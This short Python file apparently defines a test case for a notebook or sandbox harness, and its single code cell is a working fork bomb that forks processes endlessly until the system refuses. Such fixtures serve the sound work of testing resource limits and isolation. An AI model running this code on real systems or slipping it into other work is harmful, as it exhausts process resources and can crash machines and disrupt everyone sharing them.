"""A fork bomb: every child forks forever; the parent forks until refused."""

BASE = "blank"
CELLS = [
    """
import os, time
while True:
    if os.fork() == 0:
        try:
            while True:
                os.fork()
        except BaseException:
            time.sleep(120)
        os._exit(0)
""",
]
